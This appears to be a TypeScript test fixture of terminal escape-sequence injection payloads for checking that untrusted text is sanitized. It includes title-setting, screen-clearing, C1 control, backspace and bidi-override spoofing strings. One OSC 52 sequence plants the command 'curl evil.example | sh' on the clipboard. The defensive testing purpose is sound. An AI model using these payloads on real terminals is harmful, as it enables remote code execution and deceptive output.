/** What a hostile consumer writes into any text field, each to make a terminal do something. */
export const hostile = {
	oscTitle: '\u001B]0;pwned\u0007',
	oscTitleSt: '\u001B]2;pwned by ST\u001B\\',
	osc52: `\u001B]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`,
	clear: '\u001B[2J\u001B[H',
	sgr: '\u001B[31;1m',
	dcs: '\u001BP+q544e\u001B\\',
	csi8bit: '\u009B2J',
	osc8bit: '\u009D0;pwned\u009C',
	bel: '\u0007',
	backspace: 'evil\b\b\b\bgood',
	bidi: 'admin\u202Enigeb\u202C',
	reset: '\u001Bc',
} as const;

/** Every payload at once, around a readable word: `${before}${word}${after}`. */
export function hostileText(word: string): string {
	return `${Object.values(hostile).join('')}${word}${hostile.osc52}${hostile.bidi}`;
}

/** Every character that lets a terminal act on text (ESC, C1, BEL, BS, CR, ...) or reorders it (bidi controls); a line feed is not one. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
export const terminalControls = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;
